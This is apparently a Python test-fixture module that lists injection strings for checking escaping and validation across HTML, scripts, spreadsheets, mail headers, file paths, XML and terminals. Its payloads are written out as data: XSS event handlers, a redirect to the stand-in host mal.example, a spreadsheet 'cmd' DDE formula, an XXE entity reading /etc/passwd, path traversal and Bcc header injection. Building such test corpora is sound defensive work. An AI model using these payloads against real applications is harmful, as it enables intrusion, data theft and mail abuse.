"""Texts made to break out of whatever holds them: pages, scripts, spreadsheets, mails, addresses, terminals.

Each runs `window.__xss`, names an element `zq-mal`, an attribute `zq-attr` or a host `mal.example`, which nothing else
does. `refus` is the code of the problem that keeps it out of a record; empty where people may write such a text.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Charge:
    texte: str
    refus: str = ""


HTML, SIGNE = "html-dans-texte", "caractere-interdit"

CHARGES = {
    "img": Charge('"><img src=zq onerror=window.__xss=1 zq-attr>', HTML),
    "img without a space": Charge("'><img/src=zq/onerror=window.__xss=2/zq-attr>"),
    "svg": Charge("<svg/onload=window.__xss=3><zq-mal/a>"),
    "script": Charge("</script><script>window.__xss=4</script>", HTML),
    "script with a slash": Charge("</script/zq><script/zq>window.__xss=5//<zq-mal"),
    "end of a title": Charge("</title></textarea></style></noscript><zq-mal>", HTML),
    "comment": Charge("--><!--", HTML),
    "end of a comment": Charge("--!><zq-mal/zq-attr>]]><![CDATA["),
    "attribute": Charge("' onmouseover='window.__xss=6' zq-attr='"),
    "attribute in double quotes": Charge('" autofocus onfocus="window.__xss=7" zq-attr="'),
    "attribute without quotes": Charge("zq onmouseover=window.__xss=8 zq-attr=` zq`"),
    "iframe": Charge("<iframe/srcdoc='<svg/onload=window.__xss=9>'>"),
    "base": Charge('<base href=//mal.example/><meta http-equiv=refresh content="0;url=//mal.example/">', HTML),
    "template": Charge("{{ 7*7 }}{% raw %}{# zq #}${7*7}#{7*7}<%= 7*7 %>{{ atlas.__class__ }}"),
    "format": Charge("%(nom)s %s %n {0} {nom.__class__} {{}} \\u003czq\\x3e"),
    "address": Charge("javascript:window.__xss=10 data:text/html;base64,PHNjcmlwdD4= //mal.example/zq"),
    "entities": Charge("&lt;zq-mal&gt; &#x3c;zq-mal&#62; &quot; &amp;amp;", HTML),
    "half an entity": Charge("&lt &#60 &quot zq-attr=1 &copy"),
    "path": Charge("../../../../evasion/..\\..\\C:\\zq %2e%2e%2f ~root/ /etc/passwd"),
    "formula": Charge('=HYPERLINK("https://mal.example";"zq")'),
    "command": Charge("+1+cmd|' /C calc'!A0"),
    "subtraction": Charge("-2+3"),
    "function": Charge("@SUM(1;1)"),
    "wide formula": Charge("＝1+1"),
    "formula behind a semicolon": Charge("a;=1+1;-2;+3 ;@SUM(1)"),
    "formula behind a tab": Charge("a\t=1+1\t@SUM(1)"),
    "formula on a new line": Charge("a\n=1+1\n@SUM(1)"),
    "mail": Charge("zq%0d%0aBcc:mal@mal.example?cc=mal@mal.example&bcc=mal@mal.example&body=zq#zq"),
    "headers": Charge("un nom\r\nBcc: mal@mal.example\r\n\r\nzq\n.\nQUIT"),
    "JSON": Charge('"},"zq":{"a":1}]\\"\\\\'),
    "Markdown": Charge("[zq](javascript:window.__xss=11) ![](https://mal.example/p.png) **zq** `zq`"),
    "XML": Charge('<?xml version="1.0"?><!DOCTYPE zq [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'),
    "turned round": Charge("nez\u202egnp.exe\u2066zq", SIGNE),
    "zero width": Charge("m\u200bal\u2060ade\u00ad", SIGNE),
    "lines of JavaScript": Charge("a\u2028window.__xss=12\u2029b", SIGNE),
    "terminal": Charge("\x1b]0;zq\x07\x1b[31m", SIGNE),
    "accents in a heap": Charge("Z" + "\u0335\u0321\u031c\u0300\u0301\u0302" * 5, SIGNE),
    "Arabic": Charge("مرحبا 02 512 00 00 (زق)"),
    "emoji": Charge("👩\u200d🦰 1\ufe0f\u20e3 🏳\ufe0f\u200d🌈"),
    "one long word": Charge("a" * 10_000),
    "long": Charge(("mot " * 2_500).strip()),
}
LONGUES = ("one long word", "long")
